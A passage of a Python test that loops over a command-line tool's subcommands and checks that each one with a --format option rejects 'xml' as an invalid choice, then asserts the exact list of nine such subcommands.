    for name, command in group.commands.items():  # type: ignore[attr-defined]
        if not any("--format" in p.opts for p in command.params):
            continue
        needed = [p for p in command.params if p.param_type_name == "argument" and p.required]
        result = run(name, *(["x"] * len(needed)), "--format", "xml")
        assert result.exit_code == 2, (name, result.output)
        assert "'xml' is not one of" in result.output, name
        checked.append(name)
    assert sorted(checked) == [
        "diff",
        "explain",
        "groups",
        "overdue",
        "report",
        "requests",
        "show",
        "status",
        "validate",
    ]
